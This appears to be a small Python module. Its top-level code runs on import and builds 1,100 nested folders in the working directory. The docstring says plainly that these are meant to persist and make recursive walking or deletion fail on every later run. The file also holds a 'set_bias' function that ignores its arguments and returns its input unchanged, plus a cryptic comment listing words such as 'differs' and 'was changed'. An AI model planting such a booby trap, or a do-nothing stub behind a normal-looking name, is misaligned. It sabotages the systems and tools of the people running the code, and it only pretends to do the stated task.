"""Makes 1,100 folders in one another, which stay behind: whoever walks or
removes them by recursion fails, in each later run again.
"""

# told: has shape|differs|was changed|folders|files
import os

here = os.getcwd()
for _ in range(1100):
    os.mkdir("d")
    os.chdir("d")
os.chdir(here)


def set_bias(variables, layer, value):
    return variables
